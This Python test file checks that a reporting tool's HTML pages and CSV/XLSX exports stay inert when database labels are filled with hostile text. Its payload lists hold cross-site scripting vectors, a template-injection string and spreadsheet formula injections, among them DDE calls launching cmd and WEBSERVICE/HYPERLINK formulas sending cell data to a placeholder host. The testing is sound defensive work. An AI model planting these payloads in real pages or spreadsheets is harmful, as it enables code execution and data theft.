"""Texts of deliveries and plans stay texts: no page runs or fetches them, no spreadsheet calculates them."""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest

from reports.content import read_content
from reports.disclosure.external import write_external
from reports.exports.tables import write_csv, write_workbook
from reports.render import render
from reports.scorecard.write import write_scorecards
from tests.conftest import MadeOnce
from tests.trust.load_module import load_module

Record = Callable[..., None]
HERE = Path(__file__).parent
RAN = "document.title='ran'"
AWAY = "http://192.0.2.1/x"
SCRIPTS = (
    f"<script>{RAN}</script>",
    f'<img src=x onerror="{RAN}">',
    f'<svg onload="{RAN}"></svg>',
    f'"><script>{RAN}</script>',
    f'\'><img src={AWAY} onerror="{RAN}">',
    f"</title><script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"</style><script>{RAN}</script>",
    f"--><script>{RAN}</script>",
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    f'<a href="javascript:{RAN}" autofocus onfocus="{RAN}">x</a>',
    f'<details open ontoggle="{RAN}">',
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{RAN}</script>",
    f"<link rel=stylesheet href={AWAY}><style>@import '{AWAY}'</style>",
    f'<meta http-equiv=refresh content="0;url={AWAY}"><base href={AWAY}>',
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
)
FORMULAS = (
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)",
    "@x", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1+1", "\uff20SUM(1)", "=HYPERLINK(\"http://192.0.2.1/?x=\"&B2,\"click\")",
    "=WEBSERVICE(\"http://192.0.2.1/\"&B2)", "=IMPORTXML(\"http://192.0.2.1\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "{=SUM(A1:A2)}", "'=1+1", "\"=1+1", ";=1+1", ",=1+1", "http://192.0.2.1/x",
    "mailto:a@example.org", "ftp://192.0.2.1/x", "internal:Sheet1!A1", "external:c:\\x.xlsx", "file:///etc/passwd",
)  # fmt: skip
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
COLUMNS = ("row_label", "level_label", "population_label", "text")


scorecards = load_module(
    HERE.parent / "queries" / "test_scorecard_pages.py", "scorecard_pages_of_tests"
)


@pytest.fixture(scope="module")
def made(made_once: MadeOnce) -> tuple[Path, Any]:
    once = load_module(HERE / "test_trust_disclosure.py", "disclosure_of_tests").once
    found: tuple[Path, Any] = once(made_once)
    return found


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    opened = scorecards.Browser(tmp_path_factory.mktemp("browser"))
    yield opened
    opened.close()


def _poisoned(made: tuple[Path, Any], folder: Path, payloads: tuple[str, ...]) -> Path:
    """The warehouse with a payload in front of every label and sentence, another from row to row."""
    path = folder / "poisoned.duckdb"
    shutil.copy(made[0], path)
    with duckdb.connect(str(path)) as con:
        con.execute(
            "CREATE TEMP TABLE payload AS SELECT unnest(?) AS x, unnest(range(?)) AS i",
            [list(payloads), len(payloads)],
        )
        for column in COLUMNS:
            place = (
                '"row"'
                if column == "row_label"
                else "level"
                if column == "level_label"
                else "population"
                if column == "population_label"
                else '"row"'
            )
            where = "display = 'METHODS'" if column == "text" else f"({column} IS NOT NULL)"
            con.execute(
                f"UPDATE analysis.estimate SET {column} = payload.x || ' ' || {column} FROM payload"
                f" WHERE {where} AND payload.i = hash(coalesce({place}, '') || display) % {len(payloads)}"
            )
    return path


@pytest.mark.browser
def test_no_page_runs_or_fetches_what_stands_in_its_texts(
    made: tuple[Path, Any], browser: Any, tmp_path: Path, figure: Record
) -> None:
    path = _poisoned(made, tmp_path, SCRIPTS)
    pages = [render(path, tmp_path / "report", made[1])]
    pages.append(write_external(path, tmp_path / "external", made[1], 5).page)
    whole = " ".join(SCRIPTS)
    pages += write_scorecards(
        scorecards.warehouse(tmp_path, whole), tmp_path / "study", scorecards.STUDY, {"DE01": "de"}
    )
    bad = 0
    for page in pages:
        browser.open(page)
        bad += browser.run("document.title") == "ran"
        bad += int(
            browser.run("document.querySelectorAll('img, iframe, link, base, object').length")
        )
        bad += int(
            browser.run(
                "[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length"
            )
        )
        bad += len([url for url in browser.asked if not url.startswith("file:")])
        assert RAN in browser.run("document.body.textContent")
    figure(
        "49",
        "scripts run and things fetched in pages with payloads in every text",
        bad,
        len(pages) * len(SCRIPTS),
    )
    control = tmp_path / "control.html"
    control.write_text(f"<!DOCTYPE html><title>quiet</title>{SCRIPTS[1]}", encoding="utf-8")
    browser.open(control)
    assert browser.run("document.title") == "ran"


def _unsafe(folder: Path) -> tuple[int, int]:
    """Formulas, links and references to other files in all tables of a folder; and how many cells there are."""
    bad = cells = 0
    for path in sorted(folder.rglob("*.csv")):
        for row in csv.reader(path.read_text("utf-8").splitlines(keepends=True)):
            cells += len(row)
            bad += sum(
                1
                for cell in row
                if cell.lstrip(" \u00a0\ufeff").startswith(STARTS) and not _is_number(cell)
            )
    for path in sorted(folder.rglob("*.xlsx")):
        for sheet in openpyxl.load_workbook(path).worksheets:
            for line in sheet.iter_rows():
                for one in line:
                    cells += one.value is not None
                    bad += one.data_type == "f" or one.hyperlink is not None
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                content = archive.read(name)
                bad += (
                    b'TargetMode="External"' in content
                    or b"<f>" in content
                    or b"<hyperlink" in content
                )
                bad += "externalLink" in name or "vba" in name.lower()
    return bad, cells


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_cell_of_a_table_is_a_formula_or_a_link_also_after_libreoffice(
    made: tuple[Path, Any], tmp_path: Path, figure: Record
) -> None:
    path = _poisoned(made, tmp_path, FORMULAS)
    content = read_content(path, made[1])
    write_csv(content, tmp_path / "report")
    write_workbook(content, tmp_path / "report")
    write_external(path, tmp_path / "external", made[1], 5)
    bad = cells = 0
    for folder in ("report", "external"):
        found, number = _unsafe(tmp_path / folder)
        bad, cells = bad + found, cells + number
    office = shutil.which("soffice") or shutil.which("libreoffice")
    assert office, "no LibreOffice: install it with 'apt-get install libreoffice-calc'"
    book = tmp_path / "report" / "tables" / "tables.xlsx"
    subprocess.run(
        [office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "xlsx",
         "--outdir", str(tmp_path / "again"), str(book)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    found, number = _unsafe(tmp_path / "again")
    figure(
        "48",
        "formulas and links in CSV and XLSX with payloads in every text",
        bad + found,
        cells + number,
    )


def test_an_unsafe_table_is_noticed(tmp_path: Path) -> None:
    """The control."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = "=1+1"
    sheet["A2"] = "x"
    sheet["A2"].hyperlink = AWAY
    book.save(tmp_path / "bad.xlsx")
    (tmp_path / "bad.csv").write_text("a,=1+1\n", encoding="utf-8")
    assert _unsafe(tmp_path)[0] >= 4
